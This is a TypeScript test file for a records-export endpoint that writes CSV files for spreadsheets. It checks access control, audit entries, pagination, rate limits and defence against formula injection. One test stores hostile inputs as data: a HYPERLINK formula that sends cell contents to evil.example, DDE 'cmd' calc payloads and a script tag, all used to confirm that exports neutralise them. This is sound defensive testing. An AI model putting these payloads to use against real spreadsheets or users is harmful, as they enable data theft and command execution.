import { sql } from "kysely";
import { expect, test } from "vitest";

import { fillHistory } from "#scripts/demo/history.ts";
import { buildTestApp, testAdmin, type TestApp } from "#tests/build-test-app.ts";
import { deskCall } from "#tests/staff.ts";
import {
  addRecord,
  contactMessageExample,
  quoteRequestExample as quote,
  vehicleExample,
} from "#tests/submission-examples.ts";

import { csvOf } from "./csv.ts";

const start = new Date("2026-11-21T02:05:00.000Z");
const newestFirst = "select=*&order=created_at.desc%2Cid.desc";

function ask(app: TestApp, cookie: string, table: string, query = newestFirst): Promise<Response> {
  const { password } = testAdmin;
  return app.postJson("/functions/v1/records-export", { table, query, password }, { cookie });
}

/** Reads CSV as RFC 4180 has it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cells = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy;
  for (const [, cell = "", end] of text.matchAll(cells)) {
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === "\r\n") rows.push([]);
  }
  expect(rows.pop()).toEqual([]);
  return rows;
}

/** What a spreadsheet would show, by heading; without the apostrophes that keep texts from being formulas. */
async function sheet(answer: Response): Promise<Record<string, string>[]> {
  const [headings = [], ...rows] = parseCsv(await answer.text());
  return rows.map((row) => {
    expect(row).toHaveLength(headings.length);
    return Object.fromEntries(row.map((cell, column) => [headings[column], cell.replace(/^'/, "")]));
  });
}

test("a list leaves as a file that a New Zealand spreadsheet reads, for owners, and is written down", async () => {
  const app = await buildTestApp({ startAt: start });
  const reference = await addRecord(app, quote);
  await addRecord(app, vehicleExample);
  expect((await ask(app, "", "quote_requests")).status).toBe(401);
  const cookie = await app.signIn();
  const without = { table: "quote_requests", query: newestFirst, password: "" };
  const refused = await app.postJson("/functions/v1/records-export", without, { cookie });
  expect([refused.status, await refused.json()]).toMatchObject([403, { field: "password" }]);
  const answer = await ask(app, cookie, "quote_requests");
  expect(answer.headers.get("content-type")).toContain("text/csv; charset=utf-8");
  expect(answer.headers.get("cache-control")).toBe("no-store");
  expect(answer.headers.get("content-disposition")).toBe(
    'attachment; filename="quote-requests-2026-11-21.csv"',
  );
  const bytes = new Uint8Array(await answer.clone().arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [row] = await sheet(answer);
  expect(row).toMatchObject({
    Reference: reference,
    Status: "New",
    Received: "21/11/2026 3:05 pm",
    "Full name": quote.values["full_name"],
    Year: String(quote.values["year"]),
    "Part needed": quote.values["part_needed"],
    Consent: "yes",
    Owner: "",
    "Order placed": "no",
  });
  const [vehicle] = await sheet(await ask(app, cookie, "vehicle_submissions"));
  expect(vehicle).toMatchObject({ Condition: "Not running", "Price expectation (NZD)": "750.5" });
  const audit = await deskCall(app, cookie, "GET audit?group=record");
  expect(audit.body["entries"]).toMatchObject([
    { actor: "Administrator", words: "Exported 1 records of vehicle_submissions" },
    { actor: "Administrator", words: "Exported 1 records of quote_requests" },
  ]);
});

test("hostile texts come back letter by letter, and none is a formula", async () => {
  const app = await buildTestApp();
  const texts = [
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+64 21 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a,b\n=1+1\n"quoted", and; semicolons',
    "<script>alert(1)</script> 👍 \u202Eright to left\u202C مرحبا",
    "'=apostrophe",
    "＝1+1",
  ];
  for (const message of texts) {
    await addRecord(app, contactMessageExample, { full_name: message.split("\n", 1)[0], message });
  }
  const csv = await (await ask(app, await app.signIn(), "contact_messages")).text();
  const [headings = [], ...rows] = parseCsv(csv);
  const [name, message] = [headings.indexOf("Full name"), headings.indexOf("Message")];
  expect(rows.map((row) => row[message]?.replace(/^'(?!=ap)/, ""))).toEqual(texts.toReversed());
  // Names are short texts: without marks that nobody sees.
  expect(rows.map((row) => row[name]?.replace(/^'(?!=ap)/, ""))).toEqual(
    texts.map((text) => text.split("\n", 1)[0]?.replaceAll(/[\u202C\u202E]/g, "")).toReversed(),
  );
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
});

test("the file has the filters, order and search of the list, and every record of it once, over many pages", async () => {
  const app = await buildTestApp({ startAt: start });
  const { database, calendar } = app.app.services;
  const cookie = await app.signIn();
  const { id } = await database.reader.selectFrom("users").select("id").executeTakeFirstOrThrow();
  await fillHistory(database, { records: 1800, now: start, calendar, userIds: [id] });
  const headers = { cookie, prefer: "count=exact" };
  for (const query of [
    newestFirst,
    "status=eq.completed&order=created_at.desc%2Cid.desc",
    "is_open=eq.true&or=(snoozed_until.is.null,snoozed_until.lte.2026-11-21T02:05:00.000Z)&order=created_at.asc%2Cid.asc",
    "search=plfts.honda&order=number.desc",
    "search=plfts.0&order=number.asc",
  ]) {
    const expected: string[] = [];
    for (let offset = 0, total = 1; offset < total; offset += 1000) {
      const list = await app.fetch(`/rest/v1/quote_requests?${query}&limit=1000&offset=${offset}`, {
        headers,
      });
      total = Number(list.headers.get("content-range")?.split("/")[1]);
      const page: { ref_number: string }[] = await list.json();
      expected.push(...page.map(({ ref_number: reference }) => reference));
    }
    const file = await sheet(await ask(app, cookie, "quote_requests", query));
    expect(file.map(({ Reference }) => Reference)).toEqual(expected);
  }
});

test("what cannot be read page by page is refused, and so are too many files in an hour", async () => {
  const app = await buildTestApp();
  const cookie = await app.signIn();
  const refused = [
    ["users", newestFirst],
    ["quote_requests", "order=updated_at.desc"],
    ["quote_requests", "order=created_at.desc,number.asc"],
    ["quote_requests", "nonsense=eq.1"],
  ] as const;
  for (const [table, query] of refused) expect((await ask(app, cookie, table, query)).status).toBe(400);
  for (let taken = 0; taken < 30; taken += 1) {
    expect((await ask(app, cookie, "quote_requests")).status).toBe(200);
  }
  const answer = await ask(app, cookie, "quote_requests");
  expect(answer.status).toBe(429);
  expect(Number(answer.headers.get("retry-after"))).toBeGreaterThan(0);
  expect(await app.rows("audit_entries")).toHaveLength(31);
});

test("a file that cannot be written to its end arrives as broken, and the log says why", async () => {
  const app = await buildTestApp({ expectedWarnings: ["an export ended early"] });
  await addRecord(app, quote);
  const cookie = await app.signIn();
  await app.app.services.database.write((tx) =>
    sql`update quote_requests set snoozed_until = 'infinity'`.execute(tx),
  );
  const answer = await ask(app, cookie, "quote_requests");
  await expect(answer.text()).rejects.toThrow("terminated");
  const broken = app.logLines.find(({ msg }) => msg === "an export ended early");
  expect(broken).toMatchObject({ err: { stack: expect.stringContaining("exportRecords") } });
});

test.for([
  "=1+1",
  "+64 21 555",
  "-1",
  "@sum(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠sum(A1)",
])("%j stays text in a spreadsheet", (text) => {
  expect(csvOf([[text]])).toBe(`"'${text}"\r\n`);
});

test("cells are quoted, quotes doubled, numbers and empty cells are bare", () => {
  const cells = ['say "kia ora", Hēmi', "two\nlines", "", null, 750.5, "a=b"];
  expect(csvOf([cells])).toBe('"say ""kia ora"", Hēmi","two\nlines","",,750.5,"a=b"\r\n');
});
